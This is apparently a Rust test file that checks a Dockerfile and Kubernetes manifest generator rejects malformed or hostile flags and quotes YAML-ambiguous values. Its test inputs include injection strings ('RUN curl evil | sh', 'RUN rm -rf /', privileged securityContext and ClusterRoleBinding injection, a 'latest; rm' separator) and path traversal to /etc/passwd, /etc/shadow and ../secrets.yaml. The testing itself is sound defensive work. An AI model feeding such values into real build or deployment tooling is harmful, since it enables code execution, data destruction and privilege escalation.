//! Bad and hostile flags for `rzeroctl docker` and `rzeroctl kube deploy`: each is
//! refused with a message naming the flag, or, where the value is legal but awkward for
//! YAML (`yes`, `123`), quoted so that the manifest still reads as meant.

use std::process::Command;

use rzeroctl::deploy::{DockerArgs, KubeArgs, render_dockerfile, render_kube};
use serde_yaml_ng::Value;

const KUBE_OK: &[&str] = &[
    "--name",
    "order-api",
    "--namespace",
    "microservices",
    "--image",
    "rzero/order-api:latest",
    "--port",
    "8888",
];

/// KUBE_OK with `flag` set to `value` (replaced or appended).
fn kube_with(flag: &str, value: &str) -> Vec<String> {
    let mut flags: Vec<String> = KUBE_OK.iter().map(|s| s.to_string()).collect();
    match flags.iter().position(|f| f == flag) {
        Some(i) => flags[i + 1] = value.to_owned(),
        None => flags.extend([flag.to_owned(), value.to_owned()]),
    }
    flags
}

/// The error for these kube flags (parse or render), as text.
fn kube_err(flags: &[String]) -> String {
    match KubeArgs::from_flags(flags) {
        Err(e) => e.to_string(),
        Ok(args) => match render_kube(&args) {
            Err(e) => e.to_string(),
            Ok(text) => panic!("{flags:?} was accepted:\n{text}"),
        },
    }
}

fn docker_err(flags: &[&str]) -> String {
    match DockerArgs::from_flags(flags) {
        Err(e) => e.to_string(),
        Ok(args) => match render_dockerfile(&args) {
            Err(e) => e.to_string(),
            Ok(text) => panic!("{flags:?} was accepted:\n{text}"),
        },
    }
}

fn documents(text: &str) -> Vec<Value> {
    text.split("\n---\n")
        .map(|d| serde_yaml_ng::from_str(d).expect("generated YAML parses"))
        .collect()
}

#[test]
fn names_that_are_not_dns_labels_are_refused_naming_the_flag() {
    for (flag, value) in [
        ("--name", "Order_API"),
        ("--name", "1order"),
        ("--name", "order-"),
        ("--name", ""),
        ("--name", &"a".repeat(64)),
        ("--namespace", "Micro Services"),
        ("--serviceAccount", "sa/../x"),
        ("--secret", "reg cred"),
        ("--config-map", "Config"),
    ] {
        let err = kube_err(&kube_with(flag, value));
        assert!(err.contains(flag), "{flag} {value:?}: {err}");
        assert!(err.contains("DNS-1"), "{flag} {value:?}: {err}");
    }
}

#[test]
fn injection_through_names_image_or_env_values_is_refused() {
    for (flag, value) in [
        ("--name", "order-api\n  namespace: kube-system"),
        ("--namespace", "x\"\nkind: ClusterRoleBinding"),
        (
            "--image",
            "nginx\n          securityContext: {privileged: true}",
        ),
        ("--image", "nginx\" privileged: \"true"),
        ("--image", "nginx # comment"),
        ("--image", ""),
        ("--image", "UPPER/case"),
        ("--otlp-endpoint", "http://collector:4317\n  evil: 1"),
        ("--otlp-endpoint", "collector:4317"),
        ("--environment", "prod,service.name=evil"),
        ("--requestMem", "512Mi\nlimits: {}"),
    ] {
        let err = kube_err(&kube_with(flag, value));
        assert!(err.contains(flag), "{flag} {value:?}: {err}");
    }
}

#[test]
fn legal_values_that_yaml_would_misread_are_quoted() {
    let flags = kube_with("--namespace", "123");
    let mut flags = flags;
    flags[1] = "yes".into(); // --name yes: a valid DNS-1035 label, a YAML 1.1 boolean
    let text = render_kube(&KubeArgs::from_flags(&flags).expect("parse")).expect("render");
    assert!(text.contains("name: \"yes\""), "{text}");
    assert!(text.contains("namespace: \"123\""), "{text}");
    let docs = documents(&text);
    assert_eq!(docs.len(), 4);
    for d in &docs {
        assert_eq!(d["metadata"]["namespace"].as_str(), Some("123"), "{d:?}");
    }
    assert_eq!(docs[0]["metadata"]["name"].as_str(), Some("yes"));
    assert_eq!(
        docs[0]["spec"]["template"]["spec"]["containers"][0]["name"].as_str(),
        Some("yes")
    );
}

#[test]
fn huge_and_out_of_range_numbers_are_refused_naming_the_flag() {
    for (flag, value) in [
        ("--port", "0"),
        ("--port", "65536"),
        ("--port", "99999999999999999999999"),
        ("--port", "-1"),
        ("--targetPort", "70000"),
        ("--nodePort", "8080"),
        ("--nodePort", "32768"),
        ("--replicas", "4294967296"),
        ("--minReplicas", "0"),
        ("--metrics-port", "0"),
        ("--requestCpu", "99999999999999999999999"),
        ("--requestCpu", "0.5"),
        ("--requestCpu", "0m"),
        ("--limitCpu", "2 cores"),
        ("--requestMem", "18446744073709551615Ti"),
        ("--limitMem", "512MB"),
        ("--limitMem", "0"),
    ] {
        let err = kube_err(&kube_with(flag, value));
        assert!(err.contains(flag), "{flag} {value:?}: {err}");
    }
}

#[test]
fn inconsistent_flags_are_refused_naming_both() {
    let mut flags = kube_with("--minReplicas", "5");
    flags.extend(["--maxReplicas".into(), "4".into()]);
    let err = kube_err(&flags);
    assert!(
        err.contains("--minReplicas 5") && err.contains("--maxReplicas 4"),
        "{err}"
    );

    let mut flags = kube_with("--requestCpu", "800m");
    flags.extend(["--limitCpu".into(), "500".into()]);
    let err = kube_err(&flags);
    assert!(
        err.contains("--requestCpu") && err.contains("--limitCpu"),
        "{err}"
    );

    let mut flags = kube_with("--requestMem", "1Gi");
    flags.extend(["--limitMem".into(), "512".into()]);
    let err = kube_err(&flags);
    assert!(
        err.contains("--requestMem") && err.contains("--limitMem"),
        "{err}"
    );

    let err = kube_err(&kube_with("--metrics-port", "8888"));
    assert!(err.contains("--metrics-port 8888"), "{err}");

    let mut flags = kube_with("--nodePort", "30080");
    flags.push("--headless".into());
    let err = kube_err(&flags);
    assert!(
        err.contains("--nodePort") && err.contains("--headless"),
        "{err}"
    );
}

#[test]
fn goctl_bare_numbers_mean_millicores_and_mebibytes() {
    let mut flags = kube_with("--requestCpu", "500");
    flags.extend(
        [
            "--requestMem",
            "512",
            "--limitCpu",
            "1000",
            "--limitMem",
            "1024",
        ]
        .map(String::from),
    );
    let text = render_kube(&KubeArgs::from_flags(&flags).expect("parse")).expect("render");
    let docs = documents(&text);
    let r = &docs[0]["spec"]["template"]["spec"]["containers"][0]["resources"];
    assert_eq!(r["requests"]["cpu"].as_str(), Some("500m"));
    assert_eq!(r["requests"]["memory"].as_str(), Some("512Mi"));
    assert_eq!(r["limits"]["cpu"].as_str(), Some("1000m"));
    assert_eq!(r["limits"]["memory"].as_str(), Some("1024Mi"));
}

#[test]
fn rpc_services_are_headless_unless_asked_otherwise() {
    let mut flags = kube_with("--kind", "rpc");
    let svc = |flags: &[String]| {
        let text = render_kube(&KubeArgs::from_flags(flags).expect("parse")).expect("render");
        documents(&text)[1]["spec"].clone()
    };
    assert_eq!(svc(&flags)["clusterIP"].as_str(), Some("None"));
    flags.push("--headless=false".into());
    assert!(svc(&flags)["clusterIP"].is_null());
    assert!(svc(&kube_with("--kind", "rest"))["clusterIP"].is_null());
}

#[test]
fn bad_docker_flags_are_refused_naming_the_flag() {
    for (flags, flag) in [
        (&["--service", "Order API"][..], "--service"),
        (&["--service", "order-api\nRUN rm -rf /"][..], "--service"),
        (&["--service", "9lives"][..], "--service"),
        (&["--service", "a", "--exe", "a b"][..], "--exe"),
        (&["--service", "a", "--port", "70000"][..], "--port"),
        (&["--service", "a", "--port", "0"][..], "--port"),
        (
            &["--service", "a", "--base", "debian\nRUN curl evil | sh"][..],
            "--base",
        ),
        (&["--service", "a", "--base", ""][..], "--base"),
        (
            &["--service", "a", "--rust-version", "latest; rm"][..],
            "--rust-version",
        ),
        (&["--service", "a", "--tz", "../../etc/passwd"][..], "--tz"),
        (
            &["--service", "a", "--config", "../secrets.yaml"][..],
            "--config",
        ),
        (
            &["--service", "a", "--config", "/etc/shadow"][..],
            "--config",
        ),
        (
            &["--service", "a", "--config", "etc/a b.yaml"][..],
            "--config",
        ),
        (
            &["--service", "a", "--metrics-port", "8888"][..],
            "--metrics-port",
        ),
        (&["--port", "8080"][..], "--service"),
    ] {
        let err = docker_err(flags);
        assert!(err.contains(flag), "{flags:?}: {err}");
    }
}

// ---- the binary ----------------------------------------------------------------------

fn rzeroctl(args: &[&str], dir: &std::path::Path) -> (bool, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_rzeroctl"))
        .args(args)
        .current_dir(dir)
        .output()
        .expect("run rzeroctl");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    (out.status.success(), text)
}

fn scratch(name: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("rzeroctl-deploy-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("scratch dir");
    dir
}

#[test]
fn the_cli_exits_non_zero_naming_the_flag() {
    let dir = scratch("cli-errors");
    let (ok, out) = rzeroctl(
        &[
            "kube",
            "deploy",
            "--name",
            "Order_API",
            "--namespace",
            "ns",
            "--image",
            "x",
            "--port",
            "80",
            "-o",
            "k.yaml",
        ],
        &dir,
    );
    assert!(!ok, "{out}");
    assert!(
        out.contains("--name \"Order_API\"") && out.contains("DNS-1035"),
        "{out}"
    );
    assert!(!dir.join("k.yaml").exists());

    let (ok, out) = rzeroctl(
        &["docker", "--service", "order-api", "--port", "65536"],
        &dir,
    );
    assert!(!ok, "{out}");
    assert!(out.contains("--port"), "{out}");
    assert!(!dir.join("Dockerfile").exists());

    let (ok, out) = rzeroctl(
        &[
            "kube",
            "deploy",
            "--name",
            "a",
            "--namespace",
            "ns",
            "--image",
            "x",
            "--port",
            "80",
            "--requestCpu",
            "2 cores",
        ],
        &dir,
    );
    assert!(!ok, "{out}");
    assert!(out.contains("--requestCpu"), "{out}");
    let _ = std::fs::remove_dir_all(dir);
}

#[test]
fn the_cli_refuses_to_overwrite_without_force() {
    let dir = scratch("overwrite");
    let docker = ["docker", "--service", "order-api", "--dir", "out"];
    let (ok, out) = rzeroctl(&docker, &dir);
    assert!(ok, "{out}");
    let path = dir.join("out/Dockerfile");
    assert!(
        std::fs::read_to_string(&path)
            .expect("written")
            .contains("-p order-api")
    );
    std::fs::write(&path, "# mine\n").expect("edit");
    let (ok, out) = rzeroctl(&docker, &dir);
    assert!(!ok, "{out}");
    assert!(
        out.contains("already exists") && out.contains("--force"),
        "{out}"
    );
    assert_eq!(std::fs::read_to_string(&path).expect("kept"), "# mine\n");
    let (ok, out) = rzeroctl(&[&docker[..], &["--force"]].concat(), &dir);
    assert!(ok, "{out}");
    assert!(
        std::fs::read_to_string(&path)
            .expect("rewritten")
            .contains("-p order-api")
    );

    let kube = [
        "kube",
        "deploy",
        "--name",
        "a",
        "--namespace",
        "ns",
        "--image",
        "x",
        "--port",
        "80",
    ];
    let (ok, out) = rzeroctl(&kube, &dir);
    assert!(ok, "{out}");
    assert!(
        dir.join("a.yaml").is_file(),
        "default output is <name>.yaml"
    );
    let (ok, out) = rzeroctl(&kube, &dir);
    assert!(!ok && out.contains("--force"), "{out}");
    let (ok, out) = rzeroctl(&[&kube[..], &["-o", "sub/dir/a.yaml"]].concat(), &dir);
    assert!(ok, "{out}");
    assert!(dir.join("sub/dir/a.yaml").is_file());
    let _ = std::fs::remove_dir_all(dir);
}
